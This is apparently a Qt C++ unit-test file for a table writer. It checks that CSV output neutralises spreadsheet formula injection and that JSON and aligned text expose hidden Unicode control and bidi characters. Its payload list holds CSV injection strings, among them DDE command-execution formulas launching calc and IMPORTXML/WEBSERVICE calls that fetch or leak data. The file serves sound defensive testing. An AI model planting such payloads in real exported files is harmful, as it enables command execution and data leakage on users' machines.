// SPDX-License-Identifier: GPL-3.0-or-later
#include "TestSupport.h"

#include "write/Table.h"

#include <QJsonArray>
#include <QJsonDocument>

using namespace askance;

namespace {

// A reader of RFC 4180 that shares nothing with the writer; `delimiter` as another program may be set to.
std::vector<QStringList> parseCsv(const QByteArray& bytes, QChar delimiter = u',')
{
    std::vector<QStringList> rows(1);
    QString cell;
    bool quoted = false, atStart = true;
    const QString text = QString::fromUtf8(bytes);
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text[i];
        if (quoted) {
            if (c == u'"' && i + 1 < text.size() && text[i + 1] == u'"')
                cell += text[++i];
            else if (c == u'"')
                quoted = false;
            else
                cell += c;
            continue;
        }
        if (c == u'"' && atStart) {
            quoted = true;
        } else if (c == delimiter) {
            rows.back() += cell;
            cell.clear();
            atStart = true;
            continue;
        } else if (c == u'\r' && i + 1 < text.size() && text[i + 1] == u'\n') {
            rows.back() += cell;
            cell.clear();
            rows.emplace_back();
            ++i;
            atStart = true;
            continue;
        } else {
            cell += c;
        }
        atStart = false;
    }
    rows.pop_back();
    return rows;
}

const QStringList kPayloads = {
    QStringLiteral("=1+1"),
    QStringLiteral("+1+1"),
    QStringLiteral("-1+1"),
    QStringLiteral("@SUM(A1)"),
    QStringLiteral("\t=1+1"),
    QStringLiteral("\r=1+1"),
    QStringLiteral("\n=1+1"),
    QStringLiteral("=cmd|' /C calc'!A0"),
    QStringLiteral("=HYPERLINK(\"http://example.com\",\"x\")"),
    QStringLiteral("=WEBSERVICE(\"http://example.com\")"),
    QStringLiteral("+cmd|' /C calc'!A0"),
    QStringLiteral("-2+3+cmd|' /C calc'!A0"),
    QStringLiteral("@SUM(1+1)*cmd|'x'!A0"),
    QStringLiteral("=DDE(\"cmd\";\"/C calc\";\"x\")"),
    QStringLiteral("＝1+1"),
    QStringLiteral("＋1+1"),
    QStringLiteral("－1+1"),
    QStringLiteral("＠SUM(A1)"),
    QStringLiteral(" =1+1"),
    QStringLiteral("   @A1"),
    QStringLiteral("a,=1+1"),
    QStringLiteral("a;=1+1"),
    QStringLiteral("a|=1+1"),
    QStringLiteral("a\t=1+1"),
    QStringLiteral("a\r\n=1+1"),
    QStringLiteral("a\n+1"),
    QStringLiteral("a; =1+1"),
    QStringLiteral("a;-1"),
    QStringLiteral(";@A1"),
    QStringLiteral("==1"),
    QStringLiteral("=-1"),
    QStringLiteral("-"),
    QStringLiteral("="),
    QStringLiteral("=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")"),
    QStringLiteral("=1;=2;=3"),
    QStringLiteral("\";=1+1"),
    QStringLiteral("\"=1+1"),
    QStringLiteral("=\"a\"&\"b\""),
    QStringLiteral("a,\"=1"),
    QStringLiteral("x;\t=2"),
};

bool isFormula(const QString& cell)
{
    const QString text = cell.trimmed();
    return !text.isEmpty() && QStringLiteral("=+-@＝＋－＠").contains(text.front());
}

} // namespace

class TestTable : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void exactCsvReadsBackByteForByte();
    void noPayloadIsAFormulaWhateverTheDelimiter();
    void spreadsheetSafeTextKeepsWhatIsHarmless();
    void csvQuotesOnlyWhatNeedsIt();
    void jsonReadsBackAndHidesNothing_data();
    void jsonReadsBackAndHidesNothing();
    void jsonLosesLoneSurrogatesVisibly();
    void hiddenCharactersBecomeVisible_data();
    void hiddenCharactersBecomeVisible();
    void everyControlAndFormatCharacterIsEscaped();
    void aFloodOfMarksIsCutVisibly();
    void columnsAlign();
    void alignedTextStaysOnItsLine();
};

void TestTable::exactCsvReadsBackByteForByte()
{
    QCOMPARE(kPayloads.size(), 40);
    QStringList cells = kPayloads;
    cells << QString() << QStringLiteral("plain") << QStringLiteral("\"") << QStringLiteral("a\"b,c\r\nd")
          << QStringLiteral("Zürich\u202E");
    const std::vector<QStringList> rows = parseCsv(csvLine(cells, CsvMode::Exact) + csvLine(cells, CsvMode::Exact));
    QCOMPARE(rows.size(), size_t{2});
    QCOMPARE(rows[0], cells);
    QCOMPARE(rows[1], cells);
}

void TestTable::noPayloadIsAFormulaWhateverTheDelimiter()
{
    for (const QString& payload : kPayloads) {
        const QByteArray line
            = csvLine({QStringLiteral("first"), payload, QStringLiteral("last")}, CsvMode::SpreadsheetSafe);
        QVERIFY2(!line.chopped(2).contains('\n') && !line.chopped(2).contains('\r'), qPrintable(payload));
        for (const QChar delimiter : {u',', u';', u'\t', u'|'}) {
            for (const QStringList& row : parseCsv(line, delimiter)) {
                for (const QString& cell : row)
                    QVERIFY2(!isFormula(cell), qPrintable(payload + QStringLiteral(" → ") + cell));
            }
        }
        QCOMPARE(parseCsv(line).at(0).size(), 3);
    }
}

void TestTable::spreadsheetSafeTextKeepsWhatIsHarmless()
{
    QCOMPARE(csvLine({QStringLiteral("mail1.example.com"), QStringLiteral("192.0.2.1"), QStringLiteral("fe80::1"),
                         QStringLiteral("2016-09-23T13:56:29.000Z"), QStringLiteral("a-b+c=d@e")},
                 CsvMode::SpreadsheetSafe),
        QByteArray("mail1.example.com,192.0.2.1,fe80::1,2016-09-23T13:56:29.000Z,a-b+c=d@e\r\n"));
    QCOMPARE(csvLine({QStringLiteral("=1")}, CsvMode::SpreadsheetSafe), QByteArray("'=1\r\n"));
    QCOMPARE(csvLine({QStringLiteral("=1")}, CsvMode::Exact), QByteArray("=1\r\n"));
    QCOMPARE(csvLine({QStringLiteral("a\u202Eb")}, CsvMode::SpreadsheetSafe), QByteArray("a[U+202E]b\r\n"));
}

void TestTable::csvQuotesOnlyWhatNeedsIt()
{
    QCOMPARE(csvLine({QStringLiteral("a"), QStringLiteral("b,c"), QStringLiteral("d\"e"), QString()}, CsvMode::Exact),
        QByteArray("a,\"b,c\",\"d\"\"e\",\r\n"));
    QCOMPARE(csvLine({}, CsvMode::Exact), QByteArray("\r\n"));
}

void TestTable::jsonReadsBackAndHidesNothing_data()
{
    QTest::addColumn<QString>("text");
    QTest::newRow("plain") << QStringLiteral("mail1.example.com");
    QTest::newRow("quotes and backslashes") << QStringLiteral("\"\\032\\\"");
    QTest::newRow("controls") << QStringLiteral("a\u0001\u0000b\n\r\t\u007F\u0085");
    QTest::newRow("right to left override") << QStringLiteral("moc\u202Eelpmaxe\u2066x\u2069\u200F");
    QTest::newRow("zero width") << QStringLiteral("a\u200Bb\uFEFFc\u00ADd\u2060");
    QTest::newRow("line separators") << QStringLiteral("a\u2028b\u2029c");
    QTest::newRow("beyond the first plane") << QStringLiteral("𝄞 \U000E0041 x");
    QTest::newRow("noncharacter") << QStringLiteral("a\uFFFFb\uFDD0");
}

void TestTable::jsonReadsBackAndHidesNothing()
{
    QFETCH(QString, text);
    const QByteArray json = jsonString(text);
    const QJsonDocument back = QJsonDocument::fromJson('[' + json + ']');
    QCOMPARE(back.array().at(0).toString(), text);
    QCOMPARE(visibleText(QString::fromUtf8(json)), QString::fromUtf8(json));
}

void TestTable::jsonLosesLoneSurrogatesVisibly()
{
    QCOMPARE(jsonString(QStringLiteral("a") + QChar(0xD800) + QStringLiteral("b")), QByteArray("\"a\\ufffdb\""));
    QCOMPARE(jsonString(QString(QChar(0xDC00))), QByteArray("\"\\ufffd\""));
}

void TestTable::hiddenCharactersBecomeVisible_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("shown");
    QTest::newRow("plain stays") << QStringLiteral("Zürich аррӏе 東京 é") << QStringLiteral("Zürich аррӏе 東京 é");
    QTest::newRow("override") << QStringLiteral("a\u202Eb") << QStringLiteral("a[U+202E]b");
    QTest::newRow("newline") << QStringLiteral("a\nb") << QStringLiteral("a[U+000A]b");
    QTest::newRow("escape") << QStringLiteral("\u001B[31m") << QStringLiteral("[U+001B][31m");
    QTest::newRow("C1 control") << QStringLiteral("\u009B") << QStringLiteral("[U+009B]");
    QTest::newRow("byte order mark") << QStringLiteral("\uFEFFa") << QStringLiteral("[U+FEFF]a");
    QTest::newRow("tag letter") << QStringLiteral("\U000E0041") << QStringLiteral("[U+E0041]");
    QTest::newRow("lone surrogate") << QString(QChar(0xD800)) << QStringLiteral("[U+D800]");
    QTest::newRow("Hangul filler") << QStringLiteral("a\u3164b") << QStringLiteral("a[U+3164]b");
}

void TestTable::hiddenCharactersBecomeVisible()
{
    QFETCH(QString, text);
    QTEST(visibleText(text), "shown");
}

void TestTable::everyControlAndFormatCharacterIsEscaped()
{
    int seen = 0;
    for (char32_t c = 0; c <= 0x10FFFF; ++c) {
        const QChar::Category category = QChar::category(c);
        if (category != QChar::Other_Control && category != QChar::Other_Format && category != QChar::Separator_Line
            && category != QChar::Separator_Paragraph)
            continue;
        ++seen;
        const QString text = QStringView(QChar::fromUcs4(c)).toString(); // QString::fromUcs4 would drop U+FEFF
        const QString shown = QStringLiteral("[U+%1]").arg(static_cast<quint32>(c), 4, 16, QLatin1Char('0')).toUpper();
        QCOMPARE(visibleText(text), shown);
        QVERIFY(!jsonString(text).contains(text.toUtf8()));
        QVERIFY(!csvLine({text}, CsvMode::SpreadsheetSafe).chopped(2).contains(text.toUtf8()));
        QVERIFY(!alignedText({text}, {}, {}).chopped(1).contains(text));
    }
    QVERIFY(seen > 200);
}

void TestTable::aFloodOfMarksIsCutVisibly()
{
    const QString flood = QStringLiteral("a") + QString(50, QChar(0x0301));
    const QString shown = visibleText(flood);
    QCOMPARE(shown.count(QChar(0x0301)), 4);
    QCOMPARE(shown.count(QStringLiteral("[U+0301]")), 46);
    QCOMPARE(visibleText(QStringLiteral("e\u0301")), QStringLiteral("e\u0301"));
}

void TestTable::columnsAlign()
{
    QCOMPARE(
        alignedText({QStringLiteral("source"), QStringLiteral("count")},
            {{QStringLiteral("192.0.2.1"), QStringLiteral("7")}, {QStringLiteral("::1"), QStringLiteral("1234567")}},
            {false, true}),
        QStringLiteral("source       count\n"
                       "192.0.2.1        7\n"
                       "::1        1234567\n"));
    QCOMPARE(alignedText({QStringLiteral("a")}, {}, {}), QStringLiteral("a\n"));
    QCOMPARE(alignedText({QStringLiteral("a"), QStringLiteral("b")}, {{QStringLiteral("𝄞x"), QStringLiteral("y")}}, {}),
        QStringLiteral("a   b\n𝄞x  y\n"));
}

void TestTable::alignedTextStaysOnItsLine()
{
    const QString text = alignedText({QStringLiteral("name")}, {{QStringLiteral("a\nb\u001B[2J")}}, {});
    QCOMPARE(text, QStringLiteral("name\na[U+000A]b[U+001B][2J\n"));
}

ASKANCE_TEST_MAIN(TestTable)
#include "tst_table.moc"
